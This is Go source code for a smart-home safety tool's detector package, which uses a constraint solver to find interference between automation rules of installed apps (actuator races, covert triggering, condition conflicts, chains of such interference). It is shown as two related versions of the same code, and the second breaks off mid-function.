// appPairThreats detects every threat between appA's and appB's rules
// (intra-app when appA == appB), going through the footprint prune and,
// when configured, the fleet-shared pair-verdict cache. Index-driven
// callers that already know the pair shares a channel use appPairVerdict
// directly, skipping the per-pair footprint walk.
func (d *Detector) appPairThreats(appA, appB *InstalledApp) []Threat {
	// Footprint prune: when neither app's writes touch anything the other
	// app reads or writes, no interference channel exists and the whole
	// pair is skipped — no solving, no cache traffic. Intra-app pairs are
	// never pruned (a rule set trivially shares its own footprint).
	if !d.opts.DisablePruning && appA != appB && !appA.fp.SharesChannel(appB.fp) {
		d.stats.PairsPruned += len(appA.Rules.Rules) * len(appB.Rules.Rules)
		return nil
	}
	return d.appPairVerdict(appA, appB)
}

// appPairVerdict runs pair detection for a pair already known to share an
// interference channel (or exempt from pruning), consulting the
// fleet-shared pair-verdict cache when configured.
func (d *Detector) appPairVerdict(appA, appB *InstalledApp) []Threat {
	nPairs := len(appA.Rules.Rules) * len(appB.Rules.Rules)
	if appA == appB {
		n := len(appA.Rules.Rules)
		nPairs = n * (n - 1) / 2
	}
	if nPairs == 0 {
		return nil
	}
	if d.opts.Verdicts == nil {
		ssp := d.span.Child("solve")
		out := d.detectAppPair(appA, appB)
		if ssp != nil {
			ssp.SetStr("a", appA.Info.Name)
			ssp.SetStr("b", appB.Info.Name)
			ssp.SetInt("pairs", int64(nPairs))
			ssp.End()
		}
		return out
	}
	vsp := d.span.Child("verdict")
	threats, hit := d.opts.Verdicts.Detect(d.pairKey(appA, appB), func() []Threat {
		ssp := vsp.Child("solve")
		out := d.detectAppPair(appA, appB)
		ssp.End()
		return out
	})
	if hit {
		d.stats.PairVerdictHits++
		// Keep PairsChecked meaning "rule pairs whose verdict this home
		// obtained" whether solved locally or served from the cache.
		d.stats.PairsChecked += nPairs
	} else {
		d.stats.PairVerdictMisses++
	}
	if vsp != nil {
		vsp.SetStr("a", appA.Info.Name)
		vsp.SetStr("b", appB.Info.Name)
		if hit {
			vsp.SetStr("cache", "hit")
		} else {
			vsp.SetStr("cache", "miss")
		}
		vsp.End()
	}
	return threats
}

// detectAppPair runs the pair detections over every rule pair of the two
// apps, consuming their compiled rule sets.
func (d *Detector) detectAppPair(appA, appB *InstalledApp) []Threat {
	ca, cb := d.ensureCompiled(appA), d.ensureCompiled(appB)
	var out []Threat
	if appA == appB {
		for i := 0; i < len(ca.rules); i++ {
			for j := i + 1; j < len(ca.rules); j++ {
				out = append(out, d.detectPair(&ca.rules[i], &ca.rules[j])...)
			}
		}
		return out
	}
	for i := range ca.rules {
		for j := range cb.rules {
			out = append(out, d.detectPair(&ca.rules[i], &cb.rules[j])...)
		}
	}
	return out
}

// Accept records that the user decided to keep an interfering pair; later
// installations search for chains through accepted pairs (Sec. VI-D).
func (d *Detector) Accept(t Threat) { d.accepted = append(d.accepted, t) }

// Accepted returns the user-accepted interfering pairs in acceptance
// order (snapshot support: a restored detector must keep chaining through
// the pairs the user accepted before the restart). Callers must not
// mutate the returned slice.
func (d *Detector) Accepted() []Threat { return d.accepted }

// RestoreInstalled records app as installed without running any pair
// detection — the snapshot-restore path, where the threats the install
// produced were already detected (and persisted) by the previous process
// and re-solving them would turn recovery time into detection time. It
// performs exactly Install's bookkeeping: input-option noting,
// compilation, index registration and the rule-count total.
func (d *Detector) RestoreInstalled(app *InstalledApp) {
	d.noteInputOptions(app)
	d.prepare(app)
	if d.idx != nil {
		d.idx.Add(app.fp) // slot == len(d.apps)
	}
	d.apps = append(d.apps, app)
	d.totalRules += len(app.Rules.Rules)
}

// Reconfigure replaces an installed app's configuration (the updated()
// lifecycle path: "whenever a new app is installed or the configuration of
// an installed app is updated") and re-runs detection between that app and
// every other installed app. It returns the threats under the new
// configuration; an unknown app name fails with ErrAppNotInstalled.
//
// Like Install, counterpart candidates come from the footprint-channel
// index: only pairs whose footprint intersects the reconfigured app are
// re-solved — the index postings are updated to the app's new footprint
// first, so candidates reflect the new bindings.
func (d *Detector) Reconfigure(appName string, cfg *Config) ([]Threat, error) {
	var target *InstalledApp
	slot := -1
	for i, a := range d.apps {
		if a.Info.Name == appName {
			target, slot = a, i
			break
		}
	}
	if target == nil {
		return nil, fmt.Errorf("%w: %q", ErrAppNotInstalled, appName)
	}
	if cfg == nil {
		cfg = NewConfig()
	}
	target.Config = cfg
	// Drop cached solving results involving the app: config substitutions
	// change the formulas behind the cached keys. Entries record their
	// participant apps exactly, so only keys the new binding invalidates
	// go — substring matching over keys would both over-evict (app "Lock"
	// clearing entries of "Auto Lock") and rot if the key format changed.
	// The per-app key index walks exactly those entries; the counterpart
	// app's index entry is dropped too, so the index stays an exact
	// mirror of the cache.
	for k := range d.keysByApp[appName] {
		r, ok := d.satCache[k]
		if !ok {
			continue
		}
		delete(d.satCache, k)
		other := r.apps[0]
		if other == appName {
			other = r.apps[1]
		}
		if other != appName && other != "" {
			delete(d.keysByApp[other], k)
		}
	}
	delete(d.keysByApp, appName)
	// The new bindings change the app's compiled formulas, its canonical
	// footprint and its verdict signature; recompile before re-pairing.
	csp := d.span.Child("compile")
	d.prepare(target)
	csp.End()
	var threats []Threat
	if d.idx != nil {
		gsp := d.span.Child("candidates")
		d.idx.Update(slot, target.fp)
		d.candBuf = d.idx.AppendCandidates(target.fp, d.candBuf[:0])
		gsp.SetInt("candidates", int64(len(d.candBuf)))
		gsp.End()
		threats = append(threats, d.appPairThreats(target, target)...)
		// Sorted candidate slots reproduce the scan path's pair order; the
		// target's own slot is skipped (the intra pair already ran), and
		// the never-generated remainder is charged to the prune counters
		// from the running rule-count total.
		tr := len(target.Rules.Rules)
		candRules := 0
		for _, s := range d.candBuf {
			other := d.apps[s]
			if other == target {
				continue
			}
			d.stats.PairsIndexed++
			candRules += len(other.Rules.Rules)
			threats = append(threats, d.appPairVerdict(other, target)...)
		}
		n := (d.totalRules - tr - candRules) * tr
		d.stats.PairsPruned += n
		d.stats.PairsSkippedByIndex += n
		return threats, nil
	}
	threats = append(threats, d.appPairThreats(target, target)...)
	for _, other := range d.apps {
		if other == target {
			continue
		}
		threats = append(threats, d.appPairThreats(other, target)...)
	}
	return threats, nil
}

// DetectPair runs all seven detections over one ordered rule pair,
// reporting any threats found. Solver budget exhaustion degrades to a
// conservative verdict (see CheckPair for the error-aware form).
func (d *Detector) DetectPair(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) []Threat {
	ts, _ := d.CheckPair(appA, r1, appB, r2)
	return ts
}

// CheckPair runs all seven detections over one ordered rule pair. Unlike
// DetectPair it surfaces solver budget exhaustion: when any constraint
// query during the pair check exceeds the node budget
// (Options.SolverNodeCap), the returned error wraps solver.ErrSearchLimit.
// The threats are still the conservative verdict (a budget-limited query
// counts as satisfiable, so potential threats are reported rather than
// hidden) — but the caller knows the verdict was degraded instead of
// mistaking it for a clean result. Degradation sticks: satCache entries
// produced by a budget-limited solve re-surface the error on every later
// CheckPair that consumes them. (Verdicts served from a fleet-shared
// PairVerdictCache carry no such marker; fleet-level degradation is
// monitored via Stats.SearchLimitHits / the fleet's SolverLimitHits
// rollup instead.)
func (d *Detector) CheckPair(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) ([]Threat, error) {
	c1 := d.compiledFor(appA, r1)
	c2 := d.compiledFor(appB, r2)
	d.limitErr = nil
	out := d.detectPair(c1, c2)
	err := d.limitErr
	d.limitErr = nil
	return out, err
}

// detectPair is the compiled-pair core behind DetectPair/CheckPair.
func (d *Detector) detectPair(c1, c2 *compiledRule) []Threat {
	d.stats.PairsChecked++
	var out []Threat

	// --- Action-Interference: AR then GC ---
	if t, ok := d.detectAR(c1, c2); ok {
		out = append(out, t)
	}
	if t, ok := d.detectGC(c1, c2); ok {
		out = append(out, t)
	}

	// --- Trigger-Interference: CT both directions, then SD / LT ---
	ct12, okCT12 := d.detectCT(c1, c2)
	ct21, okCT21 := d.detectCT(c2, c1)
	arCand := contradictoryActions(c1, c2)
	if okCT12 {
		out = append(out, ct12)
	}
	if okCT21 {
		out = append(out, ct21)
	}
	if okCT12 && arCand {
		sd := ct12
		sd.Kind = SelfDisabling
		sd.Note = "triggered rule reverses the triggering rule's action"
		d.stats.Found[SelfDisabling]++
		out = append(out, sd)
	}
	if okCT21 && arCand && !okCT12 {
		sd := ct21
		sd.Kind = SelfDisabling
		sd.Note = "triggered rule reverses the triggering rule's action"
		d.stats.Found[SelfDisabling]++
		out = append(out, sd)
	}
	if okCT12 && okCT21 && arCand {
		lt := ct12
		lt.Kind = LoopTriggering
		lt.Note = "rules trigger each other with contradictory actions"
		d.stats.Found[LoopTriggering]++
		out = append(out, lt)
	}

	// --- Condition-Interference: EC/DC both directions ---
	if t, ok := d.detectCondInterference(c1, c2); ok {
		out = append(out, t)
	}
	if t, ok := d.detectCondInterference(c2, c1); ok {
		out = append(out, t)
	}
	return out
}

// ---------- shared solving with reuse ----------

// kindTimer times a detection stage for one threat kind without the
// closure allocation a deferred func literal would cost on every stage of
// every pair check; use as: defer d.endKind(d.beginKind(k)).
type kindTimer struct {
	k      Kind
	start  time.Time
	solve0 int64
}

func (d *Detector) beginKind(k Kind) kindTimer {
	d.curKind = k
	return kindTimer{k: k, start: time.Now(), solve0: d.stats.SolveNS[k]}
}

// endKind finishes the stage, attributing solver time to SolveNS and the
// rest (candidate filtering and formula construction) to FilterNS.
func (d *Detector) endKind(t kindTimer) {
	total := time.Since(t.start).Nanoseconds()
	solved := d.stats.SolveNS[t.k] - t.solve0
	d.stats.FilterNS[t.k] += total - solved
}

// solveCompiled decides satisfiability of the (up to) two compiled
// formulas, caching by key and declaring variables from the precompiled
// plans. apps names the participant apps for satCache eviction.
func (d *Detector) solveCompiled(key string, apps [2]string, declsA, declsB []varDecl, f1, f2 rule.Constraint) (solver.Model, bool) {
	if !d.opts.DisableReuse && key != "" {
		if r, ok := d.satCache[key]; ok {
			d.stats.SolverCacheHits++
			d.noteLimited(r)
			return r.witness, r.sat
		}
	}
	p := solver.NewProblem()
	d.declareGroups(p, declsA, declsB)
	p.AddConstraint(f1)
	p.AddConstraint(f2)
	return d.runSolve(p, key, apps)
}

// solveWalk is solveCompiled for ad-hoc formula sets (effect merges,
// setpoint bounds): variables are declared by walking the formulas.
func (d *Detector) solveWalk(key string, apps [2]string, formulas ...rule.Constraint) (solver.Model, bool) {
	if !d.opts.DisableReuse && key != "" {
		if r, ok := d.satCache[key]; ok {
			d.stats.SolverCacheHits++
			d.noteLimited(r)
			return r.witness, r.sat
		}
	}
	p := solver.NewProblem()
	d.declareVars(p, formulas...)
	for _, f := range formulas {
		p.AddConstraint(f)
	}
	return d.runSolve(p, key, apps)
}

// runSolve executes a prepared problem, times it against the current
// threat kind, applies the conservative budget-exhaustion policy and
// caches the result under key.
func (d *Detector) runSolve(p *solver.Problem, key string, apps [2]string) (solver.Model, bool) {
	d.stats.SolverCalls++
	if d.opts.SolverNodeCap > 0 {
		p.SetNodeCap(d.opts.SolverNodeCap)
	}
	solveStart := time.Now()
	m, sat, err := p.Solve()
	d.stats.SolveNS[d.curKind] += time.Since(solveStart).Nanoseconds()
	limited := false
	if err != nil {
		// Search-limit exhaustion: be conservative and report
		// satisfiable-without-witness (a potential threat is surfaced to
		// the user rather than hidden), and record the degradation so
		// CheckPair can surface it as an error.
		m, sat, limited = nil, true, true
		d.stats.SearchLimitHits++
		if d.limitErr == nil {
			d.limitErr = fmt.Errorf("detect: pair (%s, %s): %w", apps[0], apps[1], err)
		}
	}
	if !d.opts.DisableReuse && key != "" {
		d.satCache[key] = satResult{sat: sat, witness: m, apps: apps, limited: limited}
		d.noteKey(apps[0], key)
		if apps[1] != apps[0] {
			d.noteKey(apps[1], key)
		}
	}
	return m, sat
}

// noteKey records key in app's satCache key index (see keysByApp). Two
// map writes on the solve path — noise next to an actual solver run —
// buy O(1)-per-entry eviction on reconfigure.
func (d *Detector) noteKey(app, key string) {
	if app == "" {
		return
	}
	s := d.keysByApp[app]
	if s == nil {
		s = map[string]struct{}{}
		d.keysByApp[app] = s
	}
	s[key] = struct{}{}
}

// noteLimited re-raises the degradation of a budget-limited cached
// verdict for the current CheckPair call (the cached answer is still the
// conservative one the original solve produced).
func (d *Detector) noteLimited(r satResult) {
	if r.limited && d.limitErr == nil {
		d.limitErr = fmt.Errorf("detect: pair (%s, %s): cached verdict was budget-degraded: %w",
			r.apps[0], r.apps[1], solver.ErrSearchLimit)
	}
}

// pairAppsC names the two participant apps of a compiled rule pair for
// satCache eviction bookkeeping.
func pairAppsC(c1, c2 *compiledRule) [2]string { return [2]string{c1.r.App, c2.r.App} }

// overlapKey identifies the merged-situation query for a rule pair
// (unordered), enabling the AR→CT/SD/LT reuse.
func overlapKey(c1, c2 *compiledRule) string {
	a, b := c1.qid, c2.qid
	if b < a {
		a, b = b, a
	}
	return "overlap:" + a + "|" + b
}

func condKey(c1, c2 *compiledRule) string {
	a, b := c1.qid, c2.qid
	if b < a {
		a, b = b, a
	}
	return "cond:" + a + "|" + b
}

// situationsOverlap checks SAT(T1 ∧ C1 ∧ T2 ∧ C2) — the paper's
// overlapping-condition detection for Action-Interference.
func (d *Detector) situationsOverlap(c1, c2 *compiledRule) (solver.Model, bool) {
	return d.solveCompiled(overlapKey(c1, c2), pairAppsC(c1, c2),
		c1.situDecls, c2.situDecls, c1.situation, c2.situation)
}

// conditionsOverlap checks SAT(C1 ∧ C2) for Trigger-Interference. When the
// merged-situation query for the same pair was already solved satisfiable
// (the AR/GC check), its result is reused: T1∧C1∧T2∧C2 SAT implies
// C1∧C2 SAT (the Fig. 9 AR→CT/SD/LT green arrow).
func (d *Detector) conditionsOverlap(c1, c2 *compiledRule) (solver.Model, bool) {
	if !d.opts.DisableReuse {
		if r, ok := d.satCache[overlapKey(c1, c2)]; ok && r.sat {
			d.stats.SolverCacheHits++
			d.noteLimited(r)
			return r.witness, true
		}
	}
	return d.solveCompiled(condKey(c1, c2), pairAppsC(c1, c2),
		c1.condDecls, c2.condDecls, c1.condition, c2.condition)
}

// ---------- AR ----------

// contradictoryActions reports whether two actions contradict on the same
// actuator: contradictory commands, or the same command with conflicting
// parameters.
func contradictoryActions(c1, c2 *compiledRule) bool {
	for i := range c1.effects {
		a := &c1.effects[i]
		for j := range c2.effects {
			b := &c2.effects[j]
			if a.varName != b.varName {
				continue
			}
			av, aConst := a.value.(rule.StrVal)
			bv, bConst := b.value.(rule.StrVal)
			if aConst && bConst {
				if av != bv {
					return true
				}
				continue
			}
			ai, aInt := a.value.(rule.IntVal)
			bi, bInt := b.value.(rule.IntVal)
			if aInt && bInt {
				if ai != bi {
					return true
				}
				continue
			}
			// Parameterised commands (setLevel with symbolic params):
			// conflicting unless provably equal.
			if a.value.String() != b.value.String() {
				return true
			}
		}
	}
	return false
}

// detectAR implements Actuator Race detection (Sec. VI-A).
func (d *Detector) detectAR(c1, c2 *compiledRule) (Threat, bool) {
	defer d.endKind(d.beginKind(ActuatorRace))
	if !contradictoryActions(c1, c2) {
		if d.opts.DisableFiltering {
			d.situationsOverlap(c1, c2) // ablation: solve anyway
		}
		return Threat{}, false
	}
	d.stats.Candidates[ActuatorRace]++
	witness, sat := d.situationsOverlap(c1, c2)
	if !sat {
		return Threat{}, false
	}
	d.stats.Found[ActuatorRace]++
	return Threat{
		Kind: ActuatorRace, R1: c1.r, R2: c2.r, Witness: witness,
		Note: fmt.Sprintf("contradictory commands %s vs %s on the same actuator",
			c1.r.Action.Command, c2.r.Action.Command),
	}, true
}

// ---------- GC ----------

// detectGC implements Goal Conflict detection: opposite environment
// effects on a shared goal property plus overlapping situations.
func (d *Detector) detectGC(c1, c2 *compiledRule) (Threat, bool) {
	defer d.endKind(d.beginKind(GoalConflict))
	ef1, ef2 := c1.envEffects, c2.envEffects
	if len(ef1) == 0 || len(ef2) == 0 {
		if d.opts.DisableFiltering {
			d.situationsOverlap(c1, c2) // ablation: solve anyway
		}
		return Threat{}, false
	}
	// Same-actuator contradictions are Actuator Races, not Goal Conflicts.
	sameDevice := sameActionDevice(c1, c2)
	var prop envmodel.Property
	for _, p := range envmodel.Properties {
		if envmodel.Opposite(ef1[p], ef2[p]) && !sameDevice {
			prop = p
			break
		}
	}
	if prop == "" {
		return Threat{}, false
	}
	d.stats.Candidates[GoalConflict]++
	witness, sat := d.situationsOverlap(c1, c2)
	if !sat {
		return Threat{}, false
	}
	d.stats.Found[GoalConflict]++
	return Threat{
		Kind: GoalConflict, R1: c1.r, R2: c2.r, Property: prop, Witness: witness,
		Note: fmt.Sprintf("%s(%s) and %s(%s) have opposite effects on %s",
			c1.r.Action.Subject, c1.r.Action.Command, c2.r.Action.Subject, c2.r.Action.Command, prop),
	}, true
}

// sameActionDevice reports whether both actions target the same physical
// device, from the compiled device identities.
func sameActionDevice(c1, c2 *compiledRule) bool {
	if !c1.actionIsInput || !c2.actionIsInput {
		return c1.r.Action.Subject == c2.r.Action.Subject
	}
	return c1.actionDevKey == c2.actionDevKey
}

// ---------- CT ----------

// detectCT implements directed Covert Triggering detection: R1's action
// triggers R2 either directly (device state) or via the environment.
func (d *Detector) detectCT(c1, c2 *compiledRule) (Threat, bool) {
	defer d.endKind(d.beginKind(CovertTriggering))
	trigProp, channel := d.triggerChannel(c1, c2)
	if channel == "" {
		if d.opts.DisableFiltering {
			d.conditionsOverlap(c1, c2) // ablation: solve anyway
		}
		return Threat{}, false
	}
	d.stats.Candidates[CovertTriggering]++
	witness, sat := d.conditionsOverlap(c1, c2)
	if !sat {
		return Threat{}, false
	}
	d.stats.Found[CovertTriggering]++
	return Threat{
		Kind: CovertTriggering, R1: c1.r, R2: c2.r, Property: trigProp, Witness: witness,
		Note: channel,
	}, true
}

// triggerChannel decides whether A1 can fire T2, returning a description
// of the channel ("" when none).
func (d *Detector) triggerChannel(c1, c2 *compiledRule) (envmodel.Property, string) {
	if c2.trigSkip {
		return "", "" // app-touch and schedules cannot be fired by actions
	}
	// Direct channel: A1 changes the very attribute T2 subscribes to.
	t2Var := c2.trigVar
	for i := range c1.effects {
		eff := &c1.effects[i]
		if eff.varName != t2Var {
			continue
		}
		if c2.trigAnyChange {
			return "", fmt.Sprintf("action %s(%s) changes %s which triggers the rule",
				c1.r.Action.Subject, c1.r.Action.Command, t2Var)
		}
		// Check the trigger constraint against the effect value.
		_, sat := d.solveWalk("", [2]string{}, c2.trigConstraint, c1.effectCs[i])
		if sat {
			return "", fmt.Sprintf("action %s(%s) sets %s to the triggering value",
				c1.r.Action.Subject, c1.r.Action.Command, t2Var)
		}
		return "", ""
	}
	// Environment channel: A1 shifts a property sensed by T2's subject.
	if !c2.trigPropOK {
		return "", ""
	}
	prop := c2.trigProp
	sign := c1.envEffects[prop]
	if sign == envmodel.None {
		return "", ""
	}
	if !signMatchesTrigger(c2, sign) {
		return "", ""
	}
	return prop, fmt.Sprintf("action %s(%s) drives %s (%s) sensed by %s",
		c1.r.Action.Subject, c1.r.Action.Command, prop, sign, c2.r.Trigger.Subject)
}

// canonTriggerVar is the canonical variable T2 subscribes to.
func (d *Detector) canonTriggerVar(app *InstalledApp, r *rule.Rule) string {
	t := r.Trigger
	if t.Subject == "location" {
		return "location." + t.Attribute
	}
	if in := app.Info.Input(t.Subject); in != nil && in.IsDevice() {
		return d.deviceKey(app, t.Subject) + "." + t.Attribute
	}
	return app.Info.Name + "!" + t.EventVar()
}

// signMatchesTrigger checks whether an environment drift direction can
// satisfy the trigger's one-sided bound (any-change triggers always match).
func signMatchesTrigger(c *compiledRule, sign envmodel.Sign) bool {
	if c.trigAnyChange || sign == envmodel.Varies {
		return true
	}
	switch c.trigBoundDir {
	case +1:
		return sign == envmodel.Increase
	case -1:
		return sign == envmodel.Decrease
	default:
		return true
	}
}

// boundDirection inspects a constraint for a one-sided numeric bound:
// +1 for >/>=, -1 for </<=, 0 otherwise.
func boundDirection(c rule.Constraint) int {
	switch x := c.(type) {
	case rule.Cmp:
		lIsVar := false
		if v, ok := x.L.(rule.Var); ok && v.Kind != rule.VarUserInput {
			lIsVar = true
		}
		switch x.Op {
		case rule.OpGt, rule.OpGe:
			if lIsVar {
				return +1
			}
			return -1
		case rule.OpLt, rule.OpLe:
			if lIsVar {
				return -1
			}
			return +1
		}
	case rule.And:
		for _, sub := range x.Cs {
			if dir := boundDirection(sub); dir != 0 {
				return dir
			}
		}
	}
	return 0
}

// ---------- EC / DC ----------

// detectCondInterference implements directed Enabling/Disabling-Condition
// detection: does A1 change the satisfaction of C2?
func (d *Detector) detectCondInterference(c1, c2 *compiledRule) (Threat, bool) {
	defer d.endKind(d.beginKind(EnablingCondition))
	if c2.condAlways {
		return Threat{}, false
	}
	condF := c2.condition

	// Candidate check: A1 touches a device attribute in C2, or an
	// environment property sensed by a variable in C2.
	var effectCs []rule.Constraint
	var prop envmodel.Property
	touched := false
	for i := range c1.effects {
		if _, ok := c2.condVarSet[c1.effects[i].varName]; ok {
			touched = true
			effectCs = append(effectCs, c1.effectCs[i])
		}
	}
	if !touched {
		for _, ep := range c2.condEnvProps {
			if c1.envEffects[ep.prop] != envmodel.None {
				touched = true
				prop = ep.prop
				// Setpoint-style parametrised effects produce a bound on
				// the sensed variable (the paper's thermostat example).
				if bc := setpointBound(c1, ep.varName); bc != nil {
					effectCs = append(effectCs, bc)
				}
				break
			}
		}
	}
	if !touched {
		if d.opts.DisableFiltering {
			key := "ec:" + c1.qid + "|" + c2.qid
			d.solveWalk(key, pairAppsC(c1, c2), condF) // ablation: solve anyway
		}
		return Threat{}, false
	}
	d.stats.Candidates[EnablingCondition]++

	// Merge the effect constraints with C2: SAT ⇒ may enable (EC);
	// UNSAT ⇒ disables (DC).
	key := "ec:" + c1.qid + "|" + c2.qid
	witness, sat := d.solveWalk(key, pairAppsC(c1, c2), append([]rule.Constraint{condF}, effectCs...)...)
	if sat {
		d.stats.Found[EnablingCondition]++
		return Threat{
			Kind: EnablingCondition, R1: c1.r, R2: c2.r, Property: prop, Witness: witness,
			Note: "action can make the other rule's condition satisfiable",
		}, true
	}
	d.stats.Found[DisablingCond]++
	return Threat{
		Kind: DisablingCond, R1: c1.r, R2: c2.r, Property: prop,
		Note: "action makes the other rule's condition unsatisfiable",
	}, true
}

// setpointBound models parameterised thermostat-style effects: setting a
// heating setpoint to T bounds the sensed temperature variable from below.
func setpointBound(c *compiledRule, sensedVar string) rule.Constraint {
	if c.setpointTerm == nil {
		return nil
	}
	v := rule.Var{Name: sensedVar, Kind: rule.VarDeviceAttr, Type: rule.TypeInt}
	switch c.r.Action.Command {
	case "setHeatingSetpoint":
		return rule.Cmp{Op: rule.OpGe, L: v, R: c.setpointTerm}
	case "setCoolingSetpoint":
		return rule.Cmp{Op: rule.OpLe, L: v, R: c.setpointTerm}
	}
	return nil
}

// ---------- chained threats (Sec. VI-D) ----------

// Chain is a sequence of rules linked by accepted or newly found
// interferences.
type Chain struct {
	Rules []*rule.Rule
	Kinds []Kind
}

func (c Chain) String() string {
	var parts []string
	for i, r := range c.Rules {
		parts = append(parts, r.QualifiedID())
		if i < len(c.Kinds) {
			parts = append(parts, "-"+string(c.Kinds[i])+"->")
		}
	}
	return strings.Join(parts, " ")
}

// FindChains searches the digraph of accepted pairs plus the given new
// threats for interference chains of length >= 2 hops involving the new
// threats.
func (d *Detector) FindChains(newThreats []Threat, maxLen int) []Chain {
	if maxLen <= 0 {
		maxLen = 4
	}
	// Chains propagate only through trigger/condition interference; most
	// installs report none (or only AR/GC), so skip the graph build — on
	// the fleet's install path this runs for every install of every home.
	if !hasChainEdges(d.accepted) && !hasChainEdges(newThreats) {
		return nil
	}
	type edge struct {
		to   *rule.Rule
		kind Kind
	}
	adj := map[string][]edge{}
	nodes := map[string]*rule.Rule{}
	addEdge := func(t Threat) {
		// Only trigger/condition interference propagates effects onward.
		switch t.Kind {
		case CovertTriggering, SelfDisabling, LoopTriggering, EnablingCondition, DisablingCond:
			adj[t.R1.QualifiedID()] = append(adj[t.R1.QualifiedID()], edge{to: t.R2, kind: t.Kind})
			nodes[t.R1.QualifiedID()] = t.R1
			nodes[t.R2.QualifiedID()] = t.R2
		}
	}
	for _, t := range d.accepted {
		addEdge(t)
	}
	for _, t := range newThreats {
		addEdge(t)
	}
	var chains []Chain
	var dfs func(cur *rule.Rule, path []*rule.Rule, kinds []Kind, onPath map[string]bool)
	dfs = func(cur *rule.Rule, path []*rule.Rule, kinds []Kind, onPath map[string]bool) {
		if len(path) > maxLen {
			return
		}
		if len(path) >= 3 {
			chains = append(chains, Chain{
				Rules: append([]*rule.Rule(nil), path...),
				Kinds: append([]Kind(nil), kinds...),
			})
		}
		for _, e := range adj[cur.QualifiedID()] {
			id := e.to.QualifiedID()
			if onPath[id] {
				continue
			}
			onPath[id] = true
			dfs(e.to, append(path, e.to), append(kinds, e.kind), onPath)
			delete(onPath, id)
		}
	}
	for id, r := range nodes {
		dfs(r, []*rule.Rule{r}, nil, map[string]bool{id: true})
	}
	sort.Slice(chains, func(i, j int) bool { return chains[i].String() < chains[j].String() })
	return dedupeChains(chains)
}

func hasChainEdges(ts []Threat) bool {
	for _, t := range ts {
		switch t.Kind {
		case CovertTriggering, SelfDisabling, LoopTriggering, EnablingCondition, DisablingCond:
			return true
		}
	}
	return false
}

func dedupeChains(in []Chain) []Chain {
	var out []Chain
	seen := map[string]bool{}
	for _, c := range in {
		k := c.String()
		if !seen[k] {
			seen[k] = true
			out = append(out, c)
		}
	}
	return out
}
