package detect

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
	"homeguard/internal/solver"
)

// Detector holds the home's installed apps and detects CAI threats as new
// apps arrive (the online part of HomeGuard).
//
// Concurrency contract: a Detector is NOT safe for concurrent use. Every
// exported method — Install, Reconfigure, Accept, FindChains, DetectPair,
// Stats, Apps — mutates or reads satCache, stats, curKind, inputOptions,
// apps or accepted without internal locking; the caller must serialize
// all calls on one Detector instance. internal/fleet does exactly that:
// it wraps each home's Detector behind one per-home mutex held for the
// full duration of any call, so those fields are guarded by the fleet's
// per-home lock boundary while distinct homes run in parallel. The
// Detector only ever READS the *rule.RuleSet and AppInfo inside an
// InstalledApp, so extraction results may be shared across detectors
// (the extractcache relies on this; see symexec.Result).
type Detector struct {
	apps  []*InstalledApp
	modes []string
	opts  Options
	stats Stats
	// curKind attributes solver time to the threat kind being detected
	// (Fig. 9 instrumentation). Guarded by the caller's serialization
	// (the fleet's per-home lock).
	curKind Kind

	// satCache memoises overlapping-condition solving results so CT/SD/LT
	// reuse the AR merge and DC reuses EC (Fig. 9 green arrows). Guarded
	// by the caller's serialization (the fleet's per-home lock).
	satCache map[string]satResult

	// inputOptions maps canonical input-variable names ("app!input") to
	// the enum options declared in the app's preferences, giving the
	// solver accurate domains for unbound enum inputs.
	inputOptions map[string][]string

	// accepted holds user-accepted interfering pairs for chained analysis.
	accepted []Threat
}

type satResult struct {
	sat     bool
	witness solver.Model
	// apps are the (up to) two app names whose rules produced the cached
	// formulas, recorded so Reconfigure can evict exactly the entries a
	// config change invalidates.
	apps [2]string
}

// New returns a detector for one smart home.
func New(opts Options) *Detector {
	modes := opts.Modes
	if len(modes) == 0 {
		modes = []string{"Home", "Away", "Night"}
	}
	return &Detector{
		modes:        modes,
		opts:         opts,
		stats:        newStats(),
		satCache:     map[string]satResult{},
		inputOptions: map[string][]string{},
	}
}

// Stats returns detector work counters.
func (d *Detector) Stats() Stats { return d.stats }

// Apps returns the installed apps in installation order.
func (d *Detector) Apps() []*InstalledApp { return d.apps }

// Install detects CAI threats between the new app and every already
// installed app (and within the new app itself), then records the app as
// installed. This mirrors the one-time decision point at app installation.
func (d *Detector) Install(app *InstalledApp) []Threat {
	// Record declared enum-input options for solver domains.
	for i := range app.Info.Inputs {
		in := &app.Info.Inputs[i]
		if len(in.Options) > 0 {
			d.inputOptions[app.Info.Name+"!"+in.Name] = in.Options
		}
	}
	// Compute the app's footprint and verdict signature once per install.
	d.prepare(app)
	var threats []Threat
	// Intra-app pairs (rules within one app can interfere too).
	threats = append(threats, d.appPairThreats(app, app)...)
	for _, old := range d.apps {
		threats = append(threats, d.appPairThreats(old, app)...)
	}
	d.apps = append(d.apps, app)
	return threats
}

// appPairThreats detects every threat between appA's and appB's rules
// (intra-app when appA == appB), going through the footprint prune and,
// when configured, the fleet-shared pair-verdict cache.
func (d *Detector) appPairThreats(appA, appB *InstalledApp) []Threat {
	nPairs := len(appA.Rules.Rules) * len(appB.Rules.Rules)
	if appA == appB {
		n := len(appA.Rules.Rules)
		nPairs = n * (n - 1) / 2
	}
	if nPairs == 0 {
		return nil
	}
	// Footprint prune: when neither app's writes touch anything the other
	// app reads or writes, no interference channel exists and the whole
	// pair is skipped — no solving, no cache traffic. Intra-app pairs are
	// never pruned (a rule set trivially shares its own footprint).
	if !d.opts.DisablePruning && appA != appB && !appA.fp.SharesChannel(appB.fp) {
		d.stats.PairsPruned += nPairs
		return nil
	}
	if d.opts.Verdicts == nil {
		return d.detectAppPair(appA, appB)
	}
	threats, hit := d.opts.Verdicts.Detect(d.pairKey(appA, appB), func() []Threat {
		return d.detectAppPair(appA, appB)
	})
	if hit {
		d.stats.PairVerdictHits++
		// Keep PairsChecked meaning "rule pairs whose verdict this home
		// obtained" whether solved locally or served from the cache.
		d.stats.PairsChecked += nPairs
	} else {
		d.stats.PairVerdictMisses++
	}
	return threats
}

// detectAppPair runs DetectPair over every rule pair of the two apps.
func (d *Detector) detectAppPair(appA, appB *InstalledApp) []Threat {
	var out []Threat
	if appA == appB {
		rules := appA.Rules.Rules
		for i := 0; i < len(rules); i++ {
			for j := i + 1; j < len(rules); j++ {
				out = append(out, d.DetectPair(appA, rules[i], appA, rules[j])...)
			}
		}
		return out
	}
	for _, r1 := range appA.Rules.Rules {
